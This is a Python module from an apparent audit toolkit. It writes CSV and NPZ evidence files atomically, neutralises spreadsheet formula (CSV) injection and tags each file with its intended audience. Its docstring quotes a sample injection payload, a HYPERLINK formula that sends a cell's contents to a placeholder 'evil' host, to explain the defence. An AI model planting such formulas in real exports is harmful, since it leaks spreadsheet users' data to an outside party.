"""Writing evidence files safely: spreadsheet formulas neutralised, whole files or nothing.

A CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run as a formula by Excel, LibreOffice and Google Sheets (CSV injection: a group name
``=HYPERLINK("http://evil/?"&A1)`` would send a row away when the export is opened).
Following the OWASP rule, such a text cell is written with a leading ``'`` so it is shown
as text. Numbers are written as numbers (``-0.5`` stays a number).

Every evidence file states its audience itself (see :mod:`auditkit.suppression`,
"Audiences"): a CSV written with ``audience=`` ends with an ``audience`` column holding it
in every row (so any CSV reader, pandas or a spreadsheet, still reads the file unchanged,
and a row copied out of it still says who it was written for); an NPZ written by
:func:`save_npz` holds an ``audience`` entry (a 0-d text array). :func:`file_audience`
reads it back from a JSON, CSV or NPZ file.
"""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from .exceptions import ConfigError, DataError

__all__ = ["AUDIENCE_COLUMN", "FORMULA_PREFIXES", "csv_safe", "csv_safe_frame", "file_audience",
           "save_npz", "write_csv_rows", "write_frame_csv"]

#: The column (CSV) and entry (NPZ) that state the audience a file was written for.
AUDIENCE_COLUMN = "audience"

#: Leading characters a spreadsheet treats as the start of a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would execute."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        try:
            float(value)  # a plain number such as "-0.5" is data, not a formula
        except ValueError:
            return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names are :func:`csv_safe`."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(csv_safe)
    out.columns = [csv_safe(str(c)) for c in out.columns]
    return out


def _atomic(path: Path) -> Path:
    return path.with_name(f".{path.name}.{os.getpid()}.tmp")


def _checked_audience(audience: str) -> str:
    from .suppression import check_audience

    check_audience(audience)
    return audience


def with_audience(frame: pd.DataFrame, audience: str) -> pd.DataFrame:
    """``frame`` with a last ``audience`` column stating ``audience`` in every row.

    Replaces one the frame already had (e.g. read from an earlier file); a data column of
    that name (values other than the two audiences) is refused.
    """
    if AUDIENCE_COLUMN in frame.columns and not set(frame[AUDIENCE_COLUMN].astype(str)) <= {
            "in-house", "release"}:
        raise ConfigError(f"the column {AUDIENCE_COLUMN!r} is reserved for the file's "
                          "audience; found a data column of that name (rename it, e.g. "
                          "in the dataset's auditkit.toml).")
    out = frame.drop(columns=[AUDIENCE_COLUMN], errors="ignore")
    out[AUDIENCE_COLUMN] = _checked_audience(audience)
    return out


def write_frame_csv(frame: pd.DataFrame, path: str | os.PathLike[str], *,
                    audience: str | None = None) -> Path:
    """Write ``frame`` (formulas neutralised) to ``path`` atomically.

    With ``audience`` (``"in-house"`` or ``"release"``), a last column ``audience`` states
    it in every row (replacing one the frame already had, e.g. read from an earlier file).
    """
    path = Path(path)
    out = csv_safe_frame(frame)
    if audience is not None:
        out = with_audience(out, audience)
    tmp = _atomic(path)
    out.to_csv(tmp, index=False)
    os.replace(tmp, path)
    return path


def write_csv_rows(path: str | os.PathLike[str], header: Sequence[str],
                   rows: Iterable[Sequence[Any]], *, audience: str | None = None) -> Path:
    """Write a header and rows (formulas neutralised) to ``path`` atomically.

    With ``audience``, a last column ``audience`` states it in every row.
    """
    path = Path(path)
    extra = [] if audience is None else [_checked_audience(audience)]
    tmp = _atomic(path)
    with open(tmp, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow([csv_safe(h) for h in header] + ([AUDIENCE_COLUMN] if extra else []))
        writer.writerows([csv_safe(v) for v in row] + extra for row in rows)
    os.replace(tmp, path)
    return path


def save_npz(path: str | os.PathLike[str], arrays: dict[str, np.ndarray], *,
             audience: str) -> Path:
    """Write ``arrays`` and an ``audience`` entry (0-d text array) to ``path`` atomically.

    Compressed NPZ, readable with ``np.load(path, allow_pickle=False)``; readers skip the
    ``audience`` entry (it is not one of the arrays).
    """
    if AUDIENCE_COLUMN in arrays:
        raise ValueError(f"{AUDIENCE_COLUMN!r} is reserved for the file's audience; got an "
                         f"array named {AUDIENCE_COLUMN!r} instead.")
    path = Path(path)
    tmp = path.with_name(f".{path.stem}.{os.getpid()}.tmp.npz")
    entries = {**arrays, AUDIENCE_COLUMN: np.asarray(_checked_audience(audience))}
    np.savez_compressed(tmp, **entries)  # type: ignore[arg-type]  # keys are names
    os.replace(tmp, path)
    return path


def file_audience(path: str | os.PathLike[str]) -> str | None:
    """The audience ``path`` states itself, or None when it states none.

    JSON: the top-level ``audience`` key; CSV and Parquet: the ``audience`` column (every
    row must agree, else :class:`~auditkit.exceptions.DataError`); NPZ: the ``audience``
    entry.
    Other kinds of file: None.
    """
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix == ".json":
        doc = json.loads(path.read_text(encoding="utf-8"))
        value = doc.get(AUDIENCE_COLUMN) if isinstance(doc, dict) else None
        return value if isinstance(value, str) else None
    if suffix == ".csv":
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        if AUDIENCE_COLUMN not in frame.columns:
            return None
        stated = set(frame[AUDIENCE_COLUMN])
        if len(stated) > 1:
            raise DataError(f"{path} states more than one audience: {sorted(stated)}; "
                            "expected one for the whole file.")
        return stated.pop() if stated else None
    if suffix == ".parquet":
        from .evidence import open_table

        table = open_table(path)
        if AUDIENCE_COLUMN not in table.columns:
            return None
        stated = set(table.read([AUDIENCE_COLUMN])[AUDIENCE_COLUMN].astype(str))
        if len(stated) > 1:
            raise DataError(f"{path} states more than one audience: {sorted(stated)}; "
                            "expected one for the whole file.")
        return stated.pop() if stated else None
    if suffix == ".npz":
        with np.load(path, allow_pickle=False) as npz:
            return str(npz[AUDIENCE_COLUMN]) if AUDIENCE_COLUMN in npz.files else None
    return None
